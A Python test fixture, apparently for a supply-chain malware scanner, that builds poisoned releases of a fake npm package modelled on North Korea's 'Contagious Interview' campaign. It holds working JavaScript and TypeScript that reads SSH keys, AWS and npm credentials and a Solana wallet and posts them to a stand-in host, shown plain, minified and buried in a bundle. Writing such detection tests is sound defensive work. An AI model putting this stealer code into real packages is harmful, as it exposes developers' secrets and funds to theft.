"""Keys and wallets, collected from where every developer has them, and posted.

As Lazarus' "Contagious Interview" packages do (2023 to now), when they are loaded and not when they
are installed: `.ssh`, `.aws`, browsers' stores and the folders of wallets' extensions.

Post-mortem: "North Korea's Contagious Interview campaign escalates: 338 malicious npm packages"
(Socket, 2025-10).
In the staged tarball: new code in which credential files are read, and something is sent.
"""

from tests.findings.attack import Attack, one_line, release

_SOURCE = "exports.color = (level) => ({ info: 'blue', warn: 'yellow' })[level] || 'red';\n"
_NEXT = _SOURCE.replace("'yellow'", "'orange'")
_PLAIN = """
const os = require('os');
const fs = require('fs');
const path = require('path');
const https = require('https');

const wanted = ['.ssh/id_rsa', '.ssh/id_ed25519', '.aws/credentials', '.npmrc', '.git-credentials'];
const found = {};
for (const name of wanted) {
  try {
    found[name] = fs.readFileSync(path.join(os.homedir(), name), 'utf8');
  } catch {}
}
const request = https.request({ host: 'collect.example.invalid', method: 'POST' });<<<exfiltration>>>
request.on('error', () => {});
request.end(JSON.stringify(found));
"""
_MINIFIED = one_line("""
    ;(async()=>{const{homedir:h}=await import("os"),{readFile:r}=await import("fs/promises"),o={};
    for(const e of[".s"+"sh/id_rsa",".a"+"ws/credentials",`.np${"mrc"}`,".config/solana/id.json"])
    try{o[e]=(await r(h()+"/"+e)).toString("base64")}catch{}await fetch(
    "https://collect.example.invalid/u",{method:"POST",body:JSON.stringify(o)})})();<<<exfiltration>>>
""")
_TYPESCRIPT = """\
import { readFileSync } from 'node:fs';
import { request } from 'node:https';

const settings: string = readFileSync(`${process.env.HOME}/.npmrc`, 'utf8');
request({ host: 'collect.example.invalid', method: 'POST' }).end(settings);<<<exfiltration>>>
"""
_LIBRARY = [
    f"function v{n}(e,t,r){{if(!e)return t;var o=e.levels[{n}]||r;return o&&o.color===t?o:v0(o,r)}}"
    for n in range(900)
]
_BUNDLE = "".join(
    [*_LIBRARY[:500], _MINIFIED.strip(";").replace("<<<exfiltration>>>", ""), *_LIBRARY[500:]]
)

_OLD = {"index.js": _SOURCE, "dist/index.min.js": "".join(_LIBRARY[1:]) + "\n"}
_NEW = {"index.js": _NEXT, "dist/index.min.js": "".join(_LIBRARY) + "\n"}

ATTACK = Attack(
    before=release("log-colors", "1.0.0", _OLD),
    unharmed=release("log-colors", "1.0.1", _NEW),
    after={
        manner: release("log-colors", "1.0.1", {**_NEW, path: code})
        for manner, path, code in (
            ("plain", "index.js", _NEXT + _PLAIN),
            ("minified", "index.js", _NEXT + _MINIFIED + "\n"),
            ("TypeScript", "src/levels.mts", _TYPESCRIPT),
            ("in the middle of a bundle", "dist/index.min.js", _BUNDLE + "<<<exfiltration>>>\n"),
        )
    },
)
